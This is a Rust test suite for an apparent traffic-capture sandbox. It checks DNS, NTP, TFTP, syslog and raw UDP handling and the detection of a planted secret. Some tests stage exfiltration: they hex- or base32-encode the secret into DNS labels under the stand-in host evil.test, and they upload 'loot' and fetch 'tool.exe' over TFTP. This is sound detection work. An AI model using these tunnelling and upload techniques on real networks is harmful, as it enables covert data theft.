//! Names and other datagrams.
#![allow(clippy::unwrap_used)]

mod common;

use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::time::Duration;

use apa_model::{ProcessId, Protocol};
use common::{
    SECRET, Simulation, extracted, simulate, simulate_dns, simulate_dns_with, simulate_port,
    simulate_sockets, stdout, summaries,
};
use hickory_proto::op::{Message, Query, ResponseCode};
use hickory_proto::rr::{Name, RecordType};
use nix::sys::socket::{setsockopt, sockopt};
use socket2::{Domain, Socket, Type};

fn ask(sim: &Simulation, name: &str, kind: RecordType) -> Message {
    let mut message = Message::query();
    message.add_query(Query::query(Name::from_ascii(name).unwrap(), kind));
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    client.send_to(&message.to_vec().unwrap(), sim.udp).unwrap();
    let mut buffer = [0; 1500];
    let length = client.recv(&mut buffer).unwrap();
    let reply = Message::from_vec(&buffer[..length]).unwrap();
    assert_eq!(reply.metadata.id, message.metadata.id);
    reply
}

#[tokio::test(flavor = "multi_thread")]
async fn python_asks_over_udp_and_tcp_and_gets_the_same_address() {
    let sim = simulate_dns();
    let script = format!(
        "import socket,struct\n\
q=b'\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x03api\\x06Vendor\\x04test\\0\\0\\x01\\0\\x01'\n\
u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.settimeout(5); u.sendto(q,('127.0.0.1',{0}))\n\
a=u.recv(600); assert a[:2]==q[:2] and b'Vendor' in a; print(socket.inet_ntoa(a[-4:]))\n\
t=socket.create_connection(('127.0.0.1',{0})); t.settimeout(5)\n\
t.sendall(struct.pack('>H',len(q))+q[:9]); t.sendall(q[9:]+struct.pack('>H',len(q))+q); f=t.makefile('rb')\n\
for i in range(2): n,=struct.unpack('>H',f.read(2)); assert f.read(n)==a\n",
        sim.udp.port()
    );
    let Some(output) = sim.client("python3", &["-c", &script]).await else {
        return;
    };
    let address = stdout(&output);
    let reply = ask(&sim, "api.vendor.test.", RecordType::A);
    assert_eq!(reply.answers[0].data.to_string(), address.trim());
    let (result, _) = sim.finish().await;
    // One process, one name server: one conversation by datagram, and one by stream.
    assert_eq!(result.flows.len(), 2);
    assert_eq!(result.flows[1].layers, ["tcp", "dns"]);
    assert_eq!(result.flows[1].messages.len(), 2);
    let flow = &result.flows[0];
    assert_eq!(flow.layers, ["udp", "dns"]);
    assert_eq!(
        (flow.protocol, flow.process),
        (Protocol::Dns, Some(ProcessId(7)))
    );
    assert_eq!(summaries(flow), ["A api.Vendor.test", "A api.vendor.test"]);
    assert_eq!(flow.messages[0].answer.to_string(), address.trim());
    assert!(flow.bytes_in > flow.bytes_out);
}

#[tokio::test(flavor = "multi_thread")]
async fn other_ports_are_no_name_servers() {
    let sim = simulate();
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    client
        .send_to(
            b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x01x\x04test\0\0\x01\0\x01",
            sim.udp,
        )
        .unwrap();
    assert!(client.recv(&mut [0; 16]).is_err());
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows[0].layers, ["udp", "raw"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_malformed_query_is_kept_and_answered_formerr() {
    let sim = simulate_dns();
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    client
        .send_to(b"\xab\xcd\x01\0\0\x01\0\0\0\0\0\0\xff\xff", sim.udp)
        .unwrap();
    let mut buffer = [0; 512];
    let length = client.recv(&mut buffer).unwrap();
    let reply = Message::from_vec(&buffer[..length]).unwrap();
    assert_eq!(
        (reply.metadata.id, reply.metadata.response_code),
        (0xabcd, ResponseCode::FormErr)
    );
    let (result, blobs) = sim.finish().await;
    assert!(
        blobs
            .get(&result.flows[0].sent_blob)
            .starts_with(b"\xab\xcd")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_in_the_labels_of_many_queries_is_put_together() {
    for (encoded, layer) in [(hex(SECRET), "hex"), (base32(SECRET), "base32")] {
        let sim = simulate_dns();
        for (index, piece) in encoded.as_bytes().chunks(10).enumerate() {
            let name = format!(
                "{index}.{}.k7.evil.test.",
                std::str::from_utf8(piece).unwrap()
            );
            ask(&sim, &name, RecordType::A);
            ask(&sim, &name, RecordType::AAAA);
        }
        let (result, _) = sim.finish().await;
        let hit = &result.flows[0].canary_hits[0];
        assert_eq!(hit.layers, ["dns.labels", layer]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_secret_in_the_labels_of_one_name_is_found() {
    let sim = simulate_dns();
    let encoded = hex(SECRET);
    ask(
        &sim,
        &format!("{}.{}.evil.test.", &encoded[..50], &encoded[50..]),
        RecordType::TXT,
    );
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows[0].canary_hits[0].layers, ["dns.name", "hex"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_later_connection_knows_the_name_of_its_address() {
    let sim = simulate_dns_with(|config| {
        config
            .own_names
            .push(("build.example".to_owned(), [127, 0, 0, 1].into()));
    });
    let reply = ask(&sim, "BUILD.example.", RecordType::A);
    assert_eq!(reply.answers[0].data.to_string(), "127.0.0.1");
    drop(std::net::TcpStream::connect(sim.tcp).unwrap());
    let (result, _) = sim.finish().await;
    assert_eq!(
        result.flows[1].resolved_name.as_ref().unwrap().as_bytes(),
        b"build.example"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn other_datagrams_are_taken_in_and_never_answered() {
    let sim = simulate();
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    for part in [&SECRET[..20], &SECRET[20..]] {
        client.send_to(part.as_bytes(), sim.udp).unwrap();
        assert!(client.recv(&mut [0; 16]).is_err());
    }
    let (result, blobs) = sim.finish().await;
    let flow = &result.flows[0];
    assert_eq!(flow.layers, ["udp", "raw"]);
    assert_eq!(flow.messages.len(), 2);
    assert_eq!(blobs.get(&flow.sent_blob), SECRET.as_bytes());
    assert_eq!(flow.canary_hits[0].layers, ["raw"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn too_many_queries_are_answered_but_not_all_recorded() {
    let sim = simulate_dns_with(|config| config.max_messages = 5);
    for index in 0..8 {
        ask(&sim, &format!("n{index}.test."), RecordType::A);
    }
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows[0].messages.len(), 5);
    assert!(result.flows[0].truncated);
    assert!(
        result.incomplete[0]
            .detail
            .to_string()
            .starts_with("3 messages were not recorded")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn the_original_destination_is_taken_from_the_control_message_and_answered_from() {
    for (any, meant) in [("0.0.0.0", "127.0.0.2"), ("::", "::1")] {
        let any: IpAddr = any.parse().unwrap();
        let socket = reusable(SocketAddr::new(any, 0));
        setsockopt(&socket, sockopt::Ipv4OrigDstAddr, &true).unwrap();
        if any.is_ipv6() {
            setsockopt(&socket, sockopt::Ipv6OrigDstAddr, &true).unwrap();
        }
        let meant = SocketAddr::new(meant.parse().unwrap(), socket.local_addr().unwrap().port());
        let sim = simulate_sockets(socket, |from| Ok(reusable(from)));
        let client = UdpSocket::bind(SocketAddr::new(any, 0)).unwrap();
        client
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        client
            .send_to(
                b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x01x\x04test\0\0\x01\0\x01",
                meant,
            )
            .unwrap();
        let (_, from) = client.recv_from(&mut [0; 512]).unwrap();
        assert_eq!(from, meant);
        let (result, _) = sim.finish().await;
        assert_eq!(result.flows[0].destination, meant);
    }
}

/// A datagram socket whose address others may have too.
fn reusable(address: SocketAddr) -> UdpSocket {
    let socket = Socket::new(Domain::for_address(address), Type::DGRAM, None).unwrap();
    socket.set_reuse_address(true).unwrap();
    socket.bind(&address.into()).unwrap();
    socket.into()
}

fn hex(text: &str) -> String {
    text.bytes().map(|b| format!("{b:02x}")).collect()
}

fn base32(text: &str) -> String {
    let bits: String = text.bytes().map(|b| format!("{b:08b}")).collect();
    bits.as_bytes()
        .chunks(5)
        .map(|five| {
            let five = format!("{:0<5}", std::str::from_utf8(five).unwrap());
            char::from(
                b"abcdefghijklmnopqrstuvwxyz234567"[usize::from_str_radix(&five, 2).unwrap()],
            )
        })
        .collect()
}

/// Probe N1.
#[tokio::test(flavor = "multi_thread")]
async fn python_is_told_the_time_in_both_versions() {
    let sim = simulate_port(123);
    let script = format!(
        "import socket,struct,time\nfor v in (3,4):\n s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(5)\n \
s.sendto(bytes([v<<3|3])+bytes(47),('127.0.0.1',{})); r=s.recv(100)\n \
t=struct.unpack('>I',r[40:44])[0]-2208988800; print(len(r), r[0]&7, r[0]>>3, abs(t-time.time())<5)",
        sim.udp.port()
    );
    let Some(output) = sim.client("python3", &["-c", &script]).await else {
        return;
    };
    assert_eq!(stdout(&output), "48 4 3 True\n48 4 4 True\n");
    let (result, _) = sim.finish().await;
    assert_eq!(result.flows[0].protocol, Protocol::Ntp);
}

/// Probe N2.
#[tokio::test(flavor = "multi_thread")]
async fn tftp_stores_a_file_gives_it_back_and_has_every_other() {
    let sim = simulate_port(69);
    let folder = tempfile::tempdir().unwrap();
    let content = format!("{SECRET} {}", "x".repeat(5000));
    std::fs::write(folder.path().join("loot"), &content).unwrap();
    let command = format!(
        "cd {} && printf 'binary\nput loot\nget loot back\nget tool.exe\nquit\n' | tftp 127.0.0.1 {}",
        folder.path().display(),
        sim.udp.port()
    );
    if sim.client("tftp", &["-V"]).await.is_none() {
        return;
    }
    let output = sim.client("sh", &["-c", &command]).await.unwrap();
    assert_eq!(
        std::fs::read_to_string(folder.path().join("back")).unwrap(),
        content,
        "{output:?}"
    );
    assert!(
        std::fs::read(folder.path().join("tool.exe"))
            .unwrap()
            .starts_with(b"MZ")
    );
    let url = format!("tftp://{}/loot", sim.udp);
    let agreed = sim.curl(&["--tftp-blksize", "1400", &url]).await.unwrap();
    assert_eq!(stdout(&agreed), content);
    let (result, blobs) = sim.finish().await;
    let all: Vec<_> = result
        .flows
        .iter()
        .flat_map(|flow| &flow.messages)
        .collect();
    let stored = all.iter().find(|message| message.body.is_some()).unwrap();
    assert_eq!(blobs.get(&stored.body), content.as_bytes());
    assert_eq!(extracted(&result.flows[0], "path"), ["/loot"]);
    assert!(
        result
            .flows
            .iter()
            .all(|flow| flow.protocol == Protocol::Tftp)
    );
    assert_eq!(
        result
            .flows
            .iter()
            .map(|flow| flow.canary_hits.len())
            .sum::<usize>(),
        1
    );
}

/// Probe N3.
#[tokio::test(flavor = "multi_thread")]
async fn logger_and_echo_are_heard_by_datagram() {
    let sim = simulate_port(514);
    let port = sim.udp.port().to_string();
    let Some(output) = sim
        .client(
            "logger",
            &["-d", "-n", "127.0.0.1", "-P", &port, "-t", "bot", SECRET],
        )
        .await
    else {
        return;
    };
    stdout(&output);
    tokio::time::sleep(Duration::from_millis(300)).await;
    let (result, _) = sim.finish().await;
    let flow = &result.flows[0];
    assert_eq!(
        (flow.protocol, flow.canary_hits.len()),
        (Protocol::Syslog, 1)
    );
    let sim = simulate_port(7);
    let client = UdpSocket::bind("127.0.0.1:0").unwrap();
    client
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    client.send_to(b"there and back", sim.udp).unwrap();
    let mut buffer = [0; 32];
    assert_eq!(client.recv(&mut buffer).unwrap(), 14);
}

/// Probe D13.
#[tokio::test(flavor = "multi_thread")]
async fn garbage_on_every_port_is_answered_or_taken_in() {
    for port in [53, 69, 123, 443, 514, 9999] {
        let sim = simulate_port(port);
        let client = UdpSocket::bind("127.0.0.1:0").unwrap();
        for length in [0, 1, 4, 12, 48, 1200, 1400] {
            for first in [0, 0xc0, 0xff, 0x1b, 1] {
                let mut bytes = vec![first; length];
                if length > 5 {
                    bytes[1..5].copy_from_slice(&[0, 0, 0, 1]);
                }
                client.send_to(&bytes, sim.udp).unwrap();
            }
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
        let (result, _) = sim.finish().await;
        assert!(
            result.flows[0].messages.len() + usize::from(port == 69) * 100 >= 25,
            "{port}: {}",
            result.flows[0].messages.len()
        );
    }
}
